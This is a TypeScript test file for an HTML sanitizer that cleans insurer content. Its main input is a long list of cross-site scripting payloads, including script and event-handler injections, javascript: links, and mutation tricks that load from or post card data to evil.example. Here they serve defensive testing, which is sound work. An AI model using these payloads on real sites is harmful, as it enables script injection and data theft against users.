import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { sanitizeInsurerHtml, sanitizePackageHtml, toPlainText } from './insurer-html.ts'

const allowedTags = /^(a|b|br|em|i|li|ol|p|strong|ul)$/
const linkAttributes = /^ rel="noopener noreferrer" target="_blank" href="https?:\/\/[^"<>]*"$/

/** Everything in the output that a browser would read as markup must be a tag of the list, spelt in the one way. */
function findForbiddenMarkup(html: string): string[] {
  const forbidden: string[] = []
  const rest = html.replace(
    /<(\/?)([a-z]+)((?: [a-z]+="[^"]*")*)( \/)?>/g,
    (tag, close: string, name: string, attributes: string) => {
      const attributesAllowed =
        name === 'a' && close === '' ? linkAttributes.test(attributes) : attributes === ''
      if (!allowedTags.test(name) || !attributesAllowed) forbidden.push(tag)
      return ''
    },
  )
  return rest.includes('<') ? [...forbidden, rest] : forbidden
}

const attacks = [
  '<script>alert(1)</script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script src=//evil.example/x.js></script>',
  '<script>alert(1)',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1);//<</script>',
  '<script\x20type="text/javascript">javascript:alert(1);</script>',
  '<script/xss src="data:,alert(1)"></script>',
  '</script><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror=alert(1)//',
  '<img """><script>alert("XSS")</script>">',
  '<image src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /></svg>',
  '<svg><foreignObject><p onclick=alert(1)>x</p></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe><img src=x onerror=alert(1)></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<form action="https://evil.example"><input name=card><button>Pay</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p onclick="alert(1)" onmouseover=alert(1)>x</p>',
  '<b/onclick=alert(1)>x</b>',
  '<p class="parasol-accept" id="decision" data-x="1" slot="y">x</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" &#14;  javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;&#97;vascript&colon;alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/relative">x</a>',
  '<a href="https://ok.example/" onclick="alert(1)" ping="https://evil.example">x</a>',
  '<a href="https://ok.example/&quot; onclick=&quot;alert(1)">x</a>',
  "<a href='https://ok.example/\"><script>alert(1)</script>'>x</a>",
  '<a name="n" target="_top" rel="opener" href="https://ok.example/">x</a>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea></textarea/><img src=x onerror=alert(1)></textarea>',
  '<title></title/><img src=x onerror=alert(1)></title>',
  '<xmp><p title="</xmp><svg/onload=alert(1)>"></xmp>',
  '<template><script>alert(1)</script></template>',
  '<option>&lt;script&gt;alert(1)&lt;/script&gt;</option>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<video><source onerror=alert(1)></video>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<plaintext><script>alert(1)</script>',
  '<parasol-offer cart="{}"></parasol-offer>',
  '<p>\u0000<scr\u0000ipt>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
]

describe('sanitizeInsurerHtml', () => {
  it.each(attacks)('leaves nothing but allowed markup of %j', (attack) => {
    expect(findForbiddenMarkup(sanitizeInsurerHtml(attack))).toEqual([])
  })

  it('keeps the allowed tags and their words', () => {
    const html =
      '<p>One<br /><b>two</b> <i>3</i></p><ul><li><em>a</em></li></ul><ol><li><strong>b</strong></li></ol>'
    expect(sanitizeInsurerHtml(html)).toBe(html)
  })

  it('lets a web link open a page of its own', () => {
    expect(
      sanitizeInsurerHtml('<a href="https://xcover.com/pds?a=1&amp;b=2" target="_top">PDS</a>'),
    ).toBe(
      '<a rel="noopener noreferrer" target="_blank" href="https://xcover.com/pds?a=1&amp;b=2">PDS</a>',
    )
  })

  it('keeps the words of a link that leads elsewhere, and of a tag that is not allowed', () => {
    expect(sanitizeInsurerHtml('<div>See <a href="mailto:a@b.example">us</a></div>')).toBe('See us')
  })

  it('drops what scripts and styles hold', () => {
    expect(sanitizeInsurerHtml('a<script>b</script><style>c</style>d')).toBe('ad')
  })

  it('lets only allowed markup out, whatever comes in', () => {
    const fragment = fc.oneof(
      fc.constantFrom(...attacks),
      fc.constantFrom(
        '<',
        '>',
        '"',
        "'",
        '/',
        '<a href=',
        '<p ',
        '</p>',
        '<!--',
        '-->',
        '<li>',
        '&lt;',
        '\u0000',
      ),
      fc.string().map((path) => `<a href="https://a.example/${path}">`),
      fc.string(),
    )
    fc.assert(
      fc.property(fc.array(fragment, { maxLength: 12 }), (fragments) => {
        expect(findForbiddenMarkup(sanitizeInsurerHtml(fragments.join('')))).toEqual([])
      }),
      { numRuns: 500 },
    )
  })
})

describe('sanitizePackageHtml', () => {
  const reference = 'TLCC8-B6YWP-INS'

  it('keeps the number of the package where it stands', () => {
    const html = `<a href="https://x.example/pds/${reference}?a=1">Terms of ${reference}</a>`
    expect(sanitizePackageHtml(html, reference)).toContain(`/pds/${reference}?a=1`)
    expect(sanitizePackageHtml(html, reference)).toContain(`Terms of ${reference}`)
  })

  it.each([
    ['where it is part of a host', `<a href="https://${reference}.example/">Terms</a>`, reference],
    ['where it is in what goes', `<p id="${reference}">Terms</p>`, reference],
    ['where its stand-in is there already', 'NUMBER-OF-THE-PACKAGE TLCC8-B6YWP-INS', reference],
    ['for a number that is markup', '<p>Terms</p>"><img src=x>', '"><img src=x>'],
    ['for a number that is a tag', '<p>Terms</p>', 'p'],
    ['for no number', '<p>Terms</p>', ''],
  ])('says the same as without it: %s', (_where, html, number) => {
    expect(sanitizePackageHtml(html, number)).toBe(sanitizeInsurerHtml(html))
  })

  it('says the same as without it, wherever the number stands', () => {
    const fragments = [
      reference,
      ...attacks,
      '<a href="https://',
      '<a href="http://x/',
      '">',
      '</a>',
    ]
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...fragments), { maxLength: 8 }), (chosen) => {
        const html = chosen.join('')
        expect(sanitizePackageHtml(html, reference)).toBe(sanitizeInsurerHtml(html))
      }),
      { numRuns: 500 },
    )
  })
})

describe('toPlainText', () => {
  it('keeps blocks apart and puts all on one line', () => {
    expect(toPlainText('<p>Drops</p><p>and\n spills</p><ul><li>fire</li><li>flood</li></ul>')).toBe(
      'Drops and spills fire flood',
    )
  })

  it('reads entities once', () => {
    expect(toPlainText('Loss &amp; theft &lt; 1 year &gt; 1 day, &amp;amp;')).toBe(
      'Loss & theft < 1 year > 1 day, &amp;',
    )
  })

  // Some attacks are literal angle brackets to a browser too; as text those are harmless.
  const markup = attacks.filter((attack) => !/&lt;|<plaintext/.test(attack))

  it.each(markup)('holds no tag of %j', (attack) => {
    expect(toPlainText(attack)).not.toMatch(/<[a-z/!?]/i)
  })
})
